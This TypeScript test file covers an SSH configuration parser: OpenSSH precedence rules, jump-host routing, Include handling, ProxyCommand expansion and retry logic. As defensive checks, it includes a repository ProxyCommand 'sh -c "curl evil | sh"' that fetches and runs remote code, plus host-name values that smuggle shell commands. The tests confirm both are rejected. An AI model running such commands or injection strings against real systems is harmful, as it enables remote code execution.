/** ssh_config as OpenSSH computes it, the routes through jump hosts, and which connect failures are retried. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { SshConfigSet, localUserName, parseJumpList, parseJumpSpec } from '../../../hosts/ssh-config.js';
import { endpointLabel, resolveRoute } from '../../../hosts/jump-hosts.js';
import { operatorSshOptions } from '../../../hosts/operator-ssh.js';
import { expandProxyCommand } from '../../../hosts/proxy-command.js';
import { isTransientConnectError, retryDelays, type Verdict } from '../../../hosts/ssh-connector.js';
import { PolitburoError } from '../../../kernel/types.js';

const set = (text: string, extra: { fromRepository?: boolean } = {}) =>
  new SshConfigSet([{ text, where: 'ssh_config', ...extra }]);

const CONFIG = `
# The first obtained value of each keyword wins, as in OpenSSH.
Host web-* !web-legacy
  User deploy
  ProxyJump bastion
  IdentityFile ~/.ssh/deploy_%r

Host web-1
  HostName 10.0.0.11
  User not-this-one
  Port 2222

Host bastion
  HostName bastion.example.com
  User jump

Host *.internal
  HostName %h.example.net

Host *
  User everyone
  ConnectTimeout 7
  ServerAliveInterval 11
  IdentityFile ~/.ssh/id_ed25519
`;

test('first obtained value wins; wildcards; negation; tokens; IdentityFile accumulates', () => {
  const c = set(CONFIG);
  const web1 = c.lookup('web-1', 'alice');
  assert.equal(web1.hostName, '10.0.0.11');
  assert.equal(web1.user, 'deploy', 'the first User seen (web-*) wins over the later web-1 block');
  assert.equal(web1.port, 2222);
  assert.equal(web1.proxyJump, 'bastion');
  assert.equal(web1.connectTimeoutMs, 7000);
  assert.equal(web1.serverAliveIntervalMs, 11_000);
  assert.deepEqual(web1.identityFiles, [
    path.join(os.homedir(), '.ssh/deploy_deploy'),
    path.join(os.homedir(), '.ssh/id_ed25519'),
  ]);
  const legacy = c.lookup('web-legacy', 'alice');
  assert.equal(legacy.user, 'everyone', 'a negated pattern excludes the host from the block');
  assert.equal(legacy.proxyJump, undefined);
  assert.equal(legacy.hostName, undefined);
  assert.equal(c.lookup('db.internal').hostName, 'db.internal.example.net');
});

test('several files: the first file that sets a keyword wins', () => {
  const c = new SshConfigSet([
    { text: 'Host web-1\n  Port 2200\n', where: 'a' },
    { text: CONFIG, where: 'b' },
  ]);
  assert.equal(c.lookup('web-1').port, 2200);
  assert.equal(c.lookup('web-1').hostName, '10.0.0.11');
});

test("a repository's file cannot name the controller's keys; ProxyJump none; bad values name file and host", () => {
  const c = set('Host *\n  IdentityFile /root/.ssh/id_rsa\n  ProxyJump none\n', { fromRepository: true });
  const s = c.lookup('x');
  assert.deepEqual(s.identityFiles, []);
  assert.equal(s.proxyJump, undefined);
  assert.deepEqual(c.warnings, ["ssh_config ssh_config: IdentityFile is ignored in a repository's file"]);
  assert.throws(
    () => set('Host x\n  Port http\n').lookup('x'),
    (e: PolitburoError) =>
      e.reason === 'InvalidSpec' && /ssh_config: Host x: Port 'http' is not a port/.test(e.message),
  );
  assert.throws(() => set('Host x\n  ConnectTimeout soon\n').lookup('x'), /ConnectTimeout 'soon'/);
});

test('Match exec is never run', () => {
  const c = set('Match exec "exit 0"\n  User matched\nHost *\n  User plain\n');
  assert.equal(c.lookup('x').user, 'plain');
});

test('jump host specs', () => {
  assert.deepEqual(parseJumpSpec('bastion', 'w'), { host: 'bastion', user: undefined, port: undefined });
  assert.deepEqual(parseJumpSpec('ops@bastion:2222', 'w'), { host: 'bastion', user: 'ops', port: 2222 });
  assert.deepEqual(parseJumpSpec('ssh://ops@[::1]:22', 'w'), { host: '::1', user: 'ops', port: 22 });
  assert.deepEqual(
    parseJumpList(['a', 'b@c:1'], 'w').map((j) => j.host),
    ['a', 'c'],
  );
  assert.deepEqual(
    parseJumpList('a,b', 'w').map((j) => j.host),
    ['a', 'b'],
  );
  assert.throws(
    () => parseJumpSpec('ops@bastion:99999', 'hosts.web'),
    /hosts\.web: jump host 'ops@bastion:99999' has port/,
  );
  assert.throws(() => parseJumpSpec('@bastion', 'w'), /empty user/);
  assert.throws(() => parseJumpSpec('', 'w'), /is not \[user@\]host\[:port\]/);
});

test("routes: ProxyJump resolved through ssh_config; the first jump's own ProxyJump extends the chain", () => {
  const c = set(`
Host app
  ProxyJump inner-bastion,gate:2022
Host inner-bastion
  ProxyJump edge
  User ops
Host edge
  HostName edge.example.com
  Port 2200
Host gate
  ProxyJump ignored
Host *
  User fallback
`);
  const r = resolveRoute({ address: 'app' }, c, 'local');
  assert.deepEqual(r.jumps.map(endpointLabel), [
    'edge (fallback@edge.example.com:2200)',
    'ops@inner-bastion:22',
    'fallback@gate:2022',
  ]);
  assert.equal(endpointLabel(r.target), 'fallback@app:22');
  // The language's jump wins over ProxyJump; explicit user and port win over ssh_config.
  const own = resolveRoute({ address: 'app', port: 2201, user: 'me', jump: ['x@edge:1'] }, c, 'local');
  assert.deepEqual(own.jumps.map(endpointLabel), ['edge (x@edge.example.com:1)']);
  assert.equal(endpointLabel(own.target), 'me@app:2201');
  assert.throws(
    () => resolveRoute({ address: 'loop' }, set('Host loop a\n  ProxyJump a\n'), 'local'),
    /more than 10 jump hosts/,
  );
});

test('the default user is the local user, as OpenSSH chooses it; never root unless that is who runs it', () => {
  const r = resolveRoute({ address: '10.0.0.1' }, new SshConfigSet([]));
  assert.equal(r.target.user, os.userInfo().username);
  assert.equal(localUserName(), os.userInfo().username);
  assert.equal(r.target.port, 22);
  assert.deepEqual(r.jumps, []);
});

test('transient connect failures are retried; authentication and host key failures never', () => {
  const err = (message: string, extra: { code?: string; level?: string } = {}) =>
    Object.assign(new Error(message), extra);
  const ok: Verdict = { result: 'ok', keyType: 'ssh-ed25519', fingerprint: 'SHA256:x', line: 'l' };
  assert.equal(isTransientConnectError(err('connect ECONNREFUSED', { code: 'ECONNREFUSED' }), null), true);
  assert.equal(isTransientConnectError(err('read ECONNRESET', { code: 'ECONNRESET' }), ok), true);
  assert.equal(isTransientConnectError(err('Connection lost before handshake', { level: 'protocol' }), null), true);
  assert.equal(isTransientConnectError(err('getaddrinfo EAI_AGAIN x', { code: 'EAI_AGAIN' }), null), true);
  assert.equal(isTransientConnectError(err('(SSH) Channel open failure: Connection refused'), null), true);
  assert.equal(isTransientConnectError(err('(SSH) Channel open failure: administratively prohibited'), null), false);
  assert.equal(
    isTransientConnectError(
      err('All configured authentication methods failed', { level: 'client-authentication' }),
      ok,
    ),
    false,
  );
  for (const result of ['unknown', 'mismatch'] as const)
    assert.equal(isTransientConnectError(err('read ECONNRESET', { code: 'ECONNRESET' }), { ...ok, result }), false);
  assert.equal(
    isTransientConnectError(err('Timed out while waiting for handshake', { level: 'client-timeout' }), null),
    false,
  );
  assert.equal(isTransientConnectError(err('getaddrinfo ENOTFOUND x', { code: 'ENOTFOUND' }), null), false);
});

test('host names match lower-cased; an Include left in a file is reported, not silently dropped', () => {
  const c = set('Host web-1\n  Include ~/.ssh/web.conf\n  User w\n');
  assert.equal(c.lookup('WEB-1').user, 'w');
  assert.deepEqual(c.warnings, [
    'ssh_config ssh_config: Include inside a Host or Match block is not followed (move it before the first Host)',
  ]);
  const repo = set('Include ~/.ssh/config.d/*\nHost web-1\n  User w\n', { fromRepository: true });
  assert.equal(repo.lookup('web-1').user, 'w');
  assert.deepEqual(repo.warnings, [
    "ssh_config ssh_config: Include is not followed in a repository's file (put the lines in this file)",
  ]);
});

test("Include before the first Host is followed, as OpenSSH does: globs under ~/.ssh, ~, files' own Includes", async () => {
  const home = await mkdtemp(path.join(os.tmpdir(), 'politburo-ssh-include-'));
  try {
    await mkdir(path.join(home, '.ssh', 'config.d'), { recursive: true });
    const put = (file: string, text: string) => writeFile(path.join(home, file), text);
    await put(
      '.ssh/config',
      [
        '# the lines OrbStack, Colima and the like add on top',
        'Include config.d/*',
        'Include "~/other ssh.conf" ~/none-*.conf',
        'User fallback',
        'Host web-1',
        '  Include never.conf',
        '  Port 2200',
        '',
      ].join('\n'),
    );
    await put('.ssh/config.d/20-db', 'Host db\n  HostName 10.0.0.5\n');
    await put('.ssh/config.d/10-web', 'Include=nested.conf\nHost web-*\n  User webuser\n  ProxyJump bastion\n');
    await put('.ssh/nested.conf', 'ServerAliveInterval 30\n');
    await put('other ssh.conf', 'ConnectTimeout 7\n');
    const options = await operatorSshOptions({ home });
    const c = new SshConfigSet(options.sshConfig);
    // config.d in lexical order (10-web first), nested.conf through 10-web's own Include, then other ssh.conf; the
    // lines after an included file's Host blocks apply to every host again.
    assert.deepEqual(
      [c.lookup('web-1').user, c.lookup('web-1').proxyJump, c.lookup('web-1').port, c.lookup('web-1').connectTimeoutMs],
      ['webuser', 'bastion', 2200, 7000],
    );
    assert.deepEqual(
      [c.lookup('db').hostName, c.lookup('db').user, c.lookup('db').serverAliveIntervalMs, c.lookup('db').proxyJump],
      ['10.0.0.5', 'fallback', 30_000, undefined],
    );
    assert.equal(c.lookup('anything').user, 'fallback');
    assert.deepEqual(c.warnings, [], "web-1's Include names no file: nothing to follow, nothing to warn about");
    // A file that includes itself: an error naming the file and line, not a hang.
    await put('.ssh/config', 'Include config\n');
    await assert.rejects(
      operatorSshOptions({ home }),
      (e: Error) => e instanceof PolitburoError && /config:1: Include nested more than 16 deep/.test(e.message),
    );
  } finally {
    await rm(home, { recursive: true, force: true });
  }
});

test('ConnectionAttempts: per host, first value wins; a bad count is an error naming the file, host and value', () => {
  const config = set('Host flaky\n  ConnectionAttempts 6\nHost *\n  ConnectionAttempts 2\n');
  assert.equal(config.lookup('flaky').connectionAttempts, 6);
  assert.equal(config.lookup('other').connectionAttempts, 2);
  assert.equal(set('Host *\n  User u\n').lookup('x').connectionAttempts, undefined);
  assert.equal(resolveRoute({ address: 'flaky' }, config, 'me').target.connectionAttempts, 6);
  assert.throws(
    () => set('Host x\n  ConnectionAttempts 0\n').lookup('x'),
    /ssh_config ssh_config: Host x: ConnectionAttempts '0' is not a count of attempts \(1-100\)/,
  );
  assert.throws(() => set('Host x\n  ConnectionAttempts many\n').lookup('x'), /ConnectionAttempts 'many'/);
});

test('retry waits: 0.5 s doubled per retry, at most 8 s; none for 0 retries', () => {
  assert.deepEqual(retryDelays(3), [500, 1000, 2000]);
  assert.deepEqual(retryDelays(0), []);
  assert.deepEqual(retryDelays(7), [500, 1000, 2000, 4000, 8000, 8000, 8000]);
});

test('Include inside a Host or Match block applies only where the block matches; its Host lines are matched too', async () => {
  const home = await mkdtemp(path.join(os.tmpdir(), 'politburo-ssh-include-'));
  try {
    await mkdir(path.join(home, '.ssh'), { recursive: true });
    const put = (file: string, text: string) => writeFile(path.join(home, '.ssh', file), text);
    await put(
      'config',
      [
        'Host web-* !web-legacy',
        '  Include web.conf',
        '  Port 2200', // after the included file's own Host blocks: still web-*'s
        'Match originalhost db-*',
        '  Include db.conf',
        'Match exec "exit 0"',
        '  Include never.conf',
        'Match host 10.*',
        '  Include never.conf',
        'Host *',
        '  User fallback',
        '',
      ].join('\n'),
    );
    await put(
      'web.conf',
      [
        'User webuser',
        'Host web-1',
        '  HostName 10.0.0.11',
        '  Include deeper.conf',
        'Host db-1', // inside web-*'s Include: never for db-1
        '  HostName wrong',
        '',
      ].join('\n'),
    );
    await put('deeper.conf', 'ServerAliveInterval 30\n');
    await put('db.conf', 'User dbuser\nConnectTimeout 9\n');
    await put('never.conf', 'User never\nProxyJump never\n');
    const c = new SshConfigSet((await operatorSshOptions({ home })).sshConfig);
    const web1 = c.lookup('web-1');
    assert.deepEqual(
      [web1.user, web1.hostName, web1.port, web1.serverAliveIntervalMs],
      ['webuser', '10.0.0.11', 2200, 30_000],
    );
    const web2 = c.lookup('WEB-2');
    assert.deepEqual(
      [web2.user, web2.hostName, web2.port, web2.serverAliveIntervalMs],
      ['webuser', undefined, 2200, undefined],
    );
    const legacy = c.lookup('web-legacy');
    assert.deepEqual([legacy.user, legacy.port], ['fallback', undefined], 'the negated pattern: no Include either');
    const db = c.lookup('db-1');
    assert.deepEqual([db.user, db.hostName, db.connectTimeoutMs], ['dbuser', undefined, 9000]);
    assert.deepEqual([c.lookup('other').user, c.lookup('other').proxyJump], ['fallback', undefined]);
    // Match host depends on the HostName being read: that Include stays unfollowed, with a warning (per host looked
    // up; the connector tells each once).
    assert.deepEqual(
      [...new Set(c.warnings)],
      [
        'ssh_config ~/.ssh/config: Include inside a Match block with host, user or final criteria is not followed (they depend on settings still being read; use Host or Match originalhost)',
      ],
    );
    // An Include that includes itself inside a matching block: an error naming the file and line, not a hang.
    await put('config', 'Host loop\n  Include config\n');
    const loop = new SshConfigSet((await operatorSshOptions({ home })).sshConfig);
    assert.equal(loop.lookup('other').user, undefined);
    assert.throws(() => loop.lookup('loop'), /config:2: Include nested more than 16 deep/);
  } finally {
    await rm(home, { recursive: true, force: true });
  }
});

test('ProxyCommand: first obtained value wins, none, the one of ProxyJump and ProxyCommand given first', () => {
  const c = set(`
Host cmd-first
  ProxyCommand ssh -W %h:%p -o UserKnownHostsFile=/k "gate host"
  ProxyJump ignored
Host jump-first
  ProxyJump bastion
Host none-first
  ProxyCommand none
Host *
  ProxyCommand nc %h %p
  ProxyJump too-late
`);
  assert.deepEqual(
    [c.lookup('cmd-first').proxyCommand, c.lookup('cmd-first').proxyJump],
    ['ssh -W %h:%p -o UserKnownHostsFile=/k "gate host"', undefined],
  );
  assert.deepEqual([c.lookup('jump-first').proxyCommand, c.lookup('jump-first').proxyJump], [undefined, 'bastion']);
  assert.deepEqual([c.lookup('none-first').proxyCommand, c.lookup('none-first').proxyJump], [undefined, undefined]);
  assert.deepEqual([c.lookup('x').proxyCommand, c.lookup('x').proxyJump], ['nc %h %p', undefined]);
  // Across files: the first file giving either wins.
  const two = new SshConfigSet([
    { text: 'Host a\n  ProxyJump j\n', where: 'first' },
    { text: 'Host *\n  ProxyCommand nc %h %p\n', where: 'second' },
  ]);
  assert.deepEqual([two.lookup('a').proxyJump, two.lookup('a').proxyCommand], ['j', undefined]);
  assert.deepEqual([two.lookup('b').proxyJump, two.lookup('b').proxyCommand], [undefined, 'nc %h %p']);
  assert.deepEqual(c.warnings, []);
});

test("a repository's ProxyCommand is never run: a warning, and the operator's settings apply", () => {
  const c = new SshConfigSet([
    { text: 'Host *\n  ProxyCommand sh -c "curl evil | sh"\n', where: 'ssh/config', fromRepository: true },
    { text: 'Host web\n  ProxyJump bastion\n', where: '~/.ssh/config' },
  ]);
  const web = c.lookup('web');
  assert.deepEqual([web.proxyCommand, web.proxyJump], [undefined, 'bastion']);
  assert.deepEqual(c.warnings, [
    "ssh_config ssh/config: Host web: ProxyCommand is ignored in a repository's file (it would run a command on the controller); set it in the operator's ssh_config (~/.ssh/config, --ssh-config, POLITBURO_SSH_CONFIG), or use ProxyJump",
  ]);
  const none = new SshConfigSet([
    { text: 'Host web\n  ProxyCommand none\n', where: 'ssh/config', fromRepository: true },
    { text: 'Host web\n  ProxyJump bastion\n', where: '~/.ssh/config' },
  ]);
  assert.deepEqual([none.lookup('web').proxyJump, none.warnings], [undefined, []], 'none runs nothing: kept');
});

test('ProxyCommand tokens: %h after HostName, %p, %r, %n, %%; unknown tokens and shell characters refused', () => {
  const t = { name: 'web', hostName: '10.0.0.11', port: 2222, user: 'deploy' };
  assert.equal(
    expandProxyCommand('ssh -W %h:%p %r@gate # %n 100%%', t, 'Host web'),
    'ssh -W 10.0.0.11:2222 deploy@gate # web 100%',
  );
  assert.throws(
    () => expandProxyCommand('nc %h %k', t, 'Host web'),
    (e: PolitburoError) =>
      e.reason === 'InvalidSpec' &&
      e.message ===
        'Host web: ProxyCommand `nc %h %k`: unknown token %k (ProxyCommand takes %%, %h, %n, %p, %r); it was not run',
  );
  assert.throws(() => expandProxyCommand('nc %h 22 %', t, 'Host web'), /a '%' at the end/);
  for (const hostName of ['a;touch /tmp/x', '$(id)', '-oProxyCommand=x', 'a b', 'a`b`'])
    assert.throws(
      () => expandProxyCommand('nc %h %p', { ...t, hostName }, 'Host web'),
      /the host name '.*' has characters a shell would interpret/,
    );
  assert.throws(() => expandProxyCommand('ssh %r@gate', { ...t, user: 'u|x' }, 'Host web'), /the user 'u\|x'/);
  // Names only checked where they are used; IPv6 and zone indexes pass.
  assert.equal(
    expandProxyCommand('nc %h %p', { ...t, name: '$(id)', hostName: 'fe80::1%eth0' }, 'w'),
    'nc fe80::1%eth0 2222',
  );
});

test("routes: the first hop's ProxyCommand, tokens from the final settings; the language's jump wins", () => {
  const c = set(`
Host app
  HostName 10.0.0.5
  ProxyCommand ssh -W %h:%p gate
Host inner
  ProxyJump edge
  ProxyCommand never-used
Host edge
  HostName edge.example.com
  ProxyCommand connect %n %h %p %r
Host *
  User u
`);
  const app = resolveRoute({ address: 'app', port: 2201 }, c, 'local');
  assert.deepEqual(app.jumps, []);
  assert.equal(app.target.proxyCommand, 'ssh -W 10.0.0.5:2201 gate');
  const inner = resolveRoute({ address: 'inner' }, c, 'local');
  assert.deepEqual(
    inner.jumps.map((j) => [j.name, j.proxyCommand]),
    [['edge', 'connect edge edge.example.com 22 u']],
  );
  assert.equal(inner.target.proxyCommand, undefined);
  const own = resolveRoute({ address: 'app', jump: ['x@other'] }, c, 'local');
  assert.deepEqual([own.jumps[0].proxyCommand, own.target.proxyCommand], [undefined, undefined]);
  assert.throws(
    () => resolveRoute({ address: 'a;b' }, set('Host *\n  ProxyCommand nc %h %p\n'), 'local'),
    /Host a;b: ProxyCommand `nc %h %p`: the host name 'a;b' has characters a shell would interpret/,
  );
});

test("ControlMaster with ControlPersist: how long the connection keeper keeps a host's connection (the operator's files only)", () => {
  const kept = (text: string, host = 'web-1') => set(text).lookup(host, 'me').controlPersistMs;
  assert.equal(kept('Host web-*\n  ControlMaster auto\n  ControlPath ~/.ssh/cm-%C\n  ControlPersist 10m\n'), 600_000);
  assert.equal(kept('Host *\n  ControlMaster yes\n  ControlPersist 1h30m\n'), 5_400_000);
  assert.equal(kept('Host *\n  ControlMaster autoask\n  ControlPersist 45\n'), 45_000);
  assert.equal(kept('Host *\n  ControlMaster auto\n  ControlPersist yes\n'), null, 'until closed');
  assert.equal(kept('Host *\n  ControlMaster auto\n  ControlPersist 0\n'), null, '0 is yes, as in OpenSSH');
  assert.equal(kept('Host *\n  ControlMaster auto\n  ControlPersist no\n'), undefined);
  assert.equal(kept('Host *\n  ControlPersist 10m\n'), undefined, 'without ControlMaster nothing is kept');
  assert.equal(kept('Host web-1\n  ControlMaster no\nHost *\n  ControlMaster auto\n  ControlPersist 10m\n'), undefined);
  assert.equal(kept('Host db\n  ControlMaster auto\n  ControlPersist 10m\n'), undefined, 'another host');
  assert.throws(
    () => kept('Host *\n  ControlMaster auto\n  ControlPersist a while\n'),
    (err: unknown) =>
      err instanceof PolitburoError &&
      err.reason === 'InvalidSpec' &&
      /ssh_config ssh_config: Host web-1: ControlPersist 'a while' is not yes, no or a time/.test(err.message),
  );
  const repo = set('Host *\n  ControlMaster auto\n  ControlPersist 10m\n', { fromRepository: true });
  assert.equal(repo.lookup('web-1', 'me').controlPersistMs, undefined);
  assert.match(repo.warnings.join('\n'), /ControlMaster is ignored in a repository's file/);
  assert.match(repo.warnings.join('\n'), /ControlPersist is ignored in a repository's file/);
  // The route's target carries it, for the connector.
  assert.equal(
    resolveRoute({ address: 'web-1' }, set('Host *\n  ControlMaster auto\n  ControlPersist 5m\n')).target
      .controlPersistMs,
    300_000,
  );
});
